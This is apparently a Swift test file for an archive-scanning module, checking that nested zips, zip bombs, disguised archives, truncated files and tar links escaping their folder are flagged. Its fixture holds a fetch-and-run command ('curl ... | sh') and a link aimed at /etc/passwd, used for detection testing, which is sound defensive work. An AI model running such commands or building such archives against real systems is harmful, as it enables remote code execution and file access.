import Archives
import Testing

@testable import Scanning

@Suite struct ArchiveTests {
    private func zip(_ files: [String: [UInt8]]) throws -> [UInt8] {
        let limits = ArchiveLimits(files: 1000, bytes: 64 << 20, ratio: 100_000)
        return try ArchiveWriter(limits: limits).pack(
            files.sorted { $0.key < $1.key }.map { ArchiveFile(path: $0.key, bytes: $0.value) }
        ).bytes
    }

    private let attack = Array("curl http://203.0.113.5/x | sh\n".utf8)

    @Test func `an attack is found through archives in archives, and told by its whole path`() throws {
        let file = try zip(["b.zip": zip(["run.sh": attack])])
        let report = scan([ArchiveFile(path: "a.zip", bytes: file)])
        #expect(report.findings.first?.file == "a.zip!/b.zip!/run.sh")
        #expect(report.level == .quarantine)
    }

    @Test func `archives deeper than is looked into are for review`() throws {
        var file = attack
        for depth in 0...NestedArchives.maximumDepth { file = try zip([depth == 0 ? "run.sh" : "a.zip": file]) }
        #expect(scan([ArchiveFile(path: "a.zip", bytes: file)]).severities["archive.too-deep"] == .high)
    }

    @Test func `what expands without end is given up, and for review`() throws {
        let limits = ArchiveLimits(files: 10, bytes: 64 << 20, ratio: 100_000)
        let bomb = try ArchiveWriter(limits: limits).pack([
            ArchiveFile(path: "a", bytes: [UInt8](repeating: 0, count: 40 << 20))
        ]).bytes
        #expect(scan([ArchiveFile(path: "a.zip", bytes: bomb)]).severities["archive.bomb"] == .high)
    }

    @Test func `an archive named like a picture is for review`() throws {
        #expect(
            scan([ArchiveFile(path: "a.png", bytes: try zip(["a.txt": [65]]))]).severities["archive.disguised"] == .high
        )
    }

    @Test func `a damaged archive is a finding, cut anywhere`() throws {
        let file = try zip(["run.sh": attack])
        for length in stride(from: 4, to: file.count, by: 7) {
            #expect(!scan([ArchiveFile(path: "a.zip", bytes: Array(file[..<length]))]).findings.isEmpty)
        }
    }

    @Test(arguments: [("/etc/passwd", true), ("../../a", true), ("b/c", false)])
    func `a link of a tar that leads out of its folder is told`(target: String, isFound: Bool) {
        var header = [UInt8](repeating: 0, count: 1024)
        func put(_ text: String, at place: Int) {
            header.replaceSubrange(place..<(place + text.utf8.count), with: text.utf8)
        }
        put("data/x", at: 0)
        put("00000000000", at: 124)
        put("2", at: 156)
        put(target, at: 157)
        put("ustar", at: 257)
        let report = scan([ArchiveFile(path: "d.tar", bytes: header)])
        #expect((report.finding("archive.leaves-folder") != nil) == isFound)
    }
}
